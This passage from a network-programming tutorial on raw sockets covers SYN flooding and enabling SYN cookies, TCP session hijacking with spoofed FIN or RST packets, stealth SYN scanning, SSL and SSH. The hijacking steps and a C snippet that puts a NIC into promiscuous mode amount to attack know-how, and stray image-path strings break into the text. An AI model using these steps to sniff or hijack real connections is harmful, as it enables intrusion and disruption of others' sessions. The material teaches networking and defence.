You can verify this ‘attack’ at the target machine by issuing the tcpdump –vv command or other network monitoring programs such asEthereal.SYN Cookies


SYN flooding leaves a finite number of half-open connections in the server while the server is waiting for a SYN-ACK acknowledgment.  As long as the connection state is maintained,SYN flooding can prove to be a disaster in a production network.ThoughSYN flooding capitalizes on the basic flaw in TCP, ways have been found to keep the target system from going down by not maintaining connection states to consume precious resources.  Though increasing the connection queue and decreasing the connection time-out period will help to a certain extent, it won't be effective under a rapid DDOS attack. SYN Cookies has been introduced and becomes part of the Linux kernels, in order to protect your system from a SYN flood.  In the SYN cookies implementation of TCP, when the server receives a SYN packet, it responds with a SYN-ACK packet with the ACK sequence number calculated from source address, source port, source sequence, destination address, destination port, and a secret seed.  Then the server relinquishes the state about the connection.  If an ACK comes from the client, the server can recalculate it to determine whether it is a response to the former SYN-ACK, which the server sent.  To protect your system from SYN flooding, the SYN Cookies have to be enabled.


  1. echo 1 > /proc/sys/net/ipv4/tcp_syncookies to your /etc/rc.d/rc.local script.


  1. Edit /etc/sysctl.conf file and add the following line:

net.ipv4.tcp_syncookies = 1


  1. Restart your system.


Session HijackingRaw socket can also be used for Session Hijacking.  In this case, we inject our own packet that having same specification with the original packet and replace it.  As discussed in the previous section of the tcp connection termination, the client who needs to terminate the connection sends a FIN segment to the server (TCP Packet with the FIN flag set) indicating that it has finished sending the data.  The server, upon receiving the FIN segment, does not terminate the connection but enters into a "passive close" (CLOSE_WAIT) state and sends an ACK for the FIN back to the client with the sequence number incremented by one.  Now the server enters intoLAST_ACK state.  When the client gets the last ACK from the server, it enters into a TIME_WAIT state, and sends an ACK back to the server with the sequence number incremented by one.  When the server gets the ACK from the client, it closes the connection.

Before trying to hijack a TCP connection, we need to understand the TIME_WAIT state.  Consider two systems, A and B, communicating.  After terminating the connection, if these two clients want to communicate again, they should not be allowed to establish a connection before a certain period.  This is because stray packets (if there are any) transferred during the initial session should not confuse the second session initialization.  So TCP has set theTIME_WAITperiod to be twice theMSL (Maximum Segment Lifetime) for the packet.  We can spoof our TCP packets and can try to reset an established TCP connection with the following steps:


  1. Sniff a TCP connection.  In Linux for example, we need to set our Network Interface (NIC) to Promiscuous mode.  In program, this can be done by using the setsockopt().  For example:

// add the promiscuous mode

struct packet_mreq mr;

memset(&mr, 0, sizeof(mr));

mr.mr_ifindex = ifconfig.ifindex;

mr.mr_type = PACKET_MR_PROMISC;


if(setsockopt(ifconfig.sockid, SOL_PACKET, PACKET_ADD_MEMBERSHIP, (char *)&mr, sizeof(mr)) < 0)


    perror("Failed to add the promiscuous mode");return (1);



  1. Check if the packet has ACK flag set.  If set, the Acknowledgment number is recorded (which will beour next packet sequence number) along with the source IP.


Establish a raw socket with spoofed IP and send out the FINpacket to the client with the recorded sequence number.   Make sure that you have also set your ACK flag.  Session Hijacking can also be done with the RST (Reset) flag.

A sniffer programs must make the network interface card (NIC) on a machine enter into a so-called promiscuous mode.  This is because, for example, an Ethernet NIC is built with a filter that ignores all traffic that does not belong to it.  This means it ignores all frames whose destination MAC address does not match with its own.  Through the NICs driver, a sniffer program need to turn off this filter, putting the NIC into mode called promiscuous so that it will listen to all type of traffic that supposed to contain all type of packets.  The typical NICs used in workstations and PCs nowadays can be put into promiscuous mode quite easily by turning the mode on or off.  In fact, on many NICs, it is also possible to reprogram their MAC addresses.   Network analyzing equipment deliberately and legitimately needs to observe all traffic, and hence be promiscuous.


SYN Handshakes


Port scanner/sniffer such asNmap use raw sockets to the advantage of stealth.  They use a half-way-SYN handshake that basically works like the following steps:

  1. Host A sends a special SYN packet to host B.

  2. Host B sends back a SYN/ACK packet to host A.

  3.Host A send RST packet in return.


This way, host B knows when it gets a connection and this is how most port scanners work.  Nmap and others however, use raw sockets.  When the SYN/ACK packet is received from host B, indicating that B got the SYN, host A then uses this and sends a special RST (flag) packet (short for ReSeT) back to host B saying never mind about the connection, thus, they never make a full connection and the scan is stealthed out.

Well, from the story in this Module, raw sockets are an extremely powerful method of controlling the underlying protocol of apacket and its data.  Any network programmer should learn and understand how to use them for the right purposes.









Further interesting reading and digging:


Secure Socket Layer (SSL)


A protocol developed originally by Netscape for transmitting privatedocuments via the Internet in an encrypted form.  SSL ensures that the information is sent, unchanged, only to the server you intended to send it to.  For example, online shopping sites frequently use SSL technology to safeguard your credit card information.  SSL is a protocol for encrypting TCP/IP traffic that also incorporates authentication and data integrity.  The newest version of SSL is sometimes referred to as Transport Layer Security (TLS) (the specification can be found atRFC 2246 and TLS v1.0 is equivalent to SSL v3.1.  SSL runs on top of TCP/IP and can be applied to almost any sort of connection-oriented communication.  SSL is based on session-key encryption.  It adds a number of extra features, including authentication based on X.509 certificates and integrity checking with message authentication codes.
It is an extension of sockets, which allow a client and a server to establish a stream of communication with each other in a secured manner.  They begin with a handshake, which allows identities to be established and keys to be exchanged.

SSL uses a cryptographic system that uses two keys to encrypt data: a public key known to everyone and a private or secret key known only to the recipient of the message.  It is most commonly used to secure http.  Both Netscape Navigator and Internet Explorer browsers support SSL and many web sites use the protocol to obtain confidential user information.  By convention, URLs that require an SSL connection start with https: instead of http:.

Another protocol for transmitting data securely over the World Wide Web is Secure HTTP (S-HTTP).  Whereas SSL creates asecure connection between a client and a server, over which any amount of data can be sent securely, S-HTTP is designed to transmit individual messages securely.  SSL and S-HTTP, therefore, can be seen as complementary rather than competing technologies.  Both protocols have been approved by the Internet Engineering Task Force (IETF) as a standard.

You cantryOpenSSL, the open source version to learn more about SSL.  One of real project example that implements the SSL is Apache web server (apache-ssl).  Information about program examples can be obtained atopenssl examples


Secure Shell (SSH)


Many users of telnet, rlogin, ftp and other communication programs transmit data such as user name and password across the Internet inunencrypted form.  For more general applications, SSH encrypts all traffic (including passwords) to effectively eliminate eavesdropping, connection hijacking, and other network-level attacks.  Originally developed bySSH Communications Security Ltd., Secure Shell provides strong authentication and secure communications over insecure channels such as internet.  It is a replacement for unsecured rlogin,rsh,rcp, and rdist.  SSH protects a network from attacks such as IP spoofing, IP source routing, and DNS spoofing.  An attacker who has managed to take over a network can only force SSH to disconnect.  He or she cannot play back the traffic or hijack the connection when encryption is enabled.  For example, when using ssh's secure login (instead of rlogin) the entire login session, including transmission of password, is encrypted; therefore it is almost impossible for an outsider to collect passwords.  SSH is available for Windows, Unix, Macintosh, and OS/2, commercial or open source version and it also works with RSA authentication.

To learn more about SSH, you ca use the free, open source version, OpenSSH.  The OpenSSH suite includes theSSH program which replacesrlogin and telnet,scp which replaces rcp, andsftp which replaces ftp.  Also included issshd which is the server side of the package, and the other basic utilities likessh-add,ssh-agent,ssh-keysign,ssh-keyscan,ssh-keygenandsftp-server.  OpenSSH supports SSH protocol versions 1.3, 1.5, and 2.0.






More reading and digging:1. Check the best selling C/C++, Networking, Linux and Open Source books at Amazon.com.

  2. Broadcasting, multicasting etc samplecodes.

  3. Telephony HOW-TO TLDP.

  4. GCC, GDBand other related tools.

  5. The NonStop HP TCP/IP programming (Pdf).





|Winsock & .NET |Winsock | < TheRAW Socket Examples |Linux/UnixOS Security Features> | Linux Socket Index |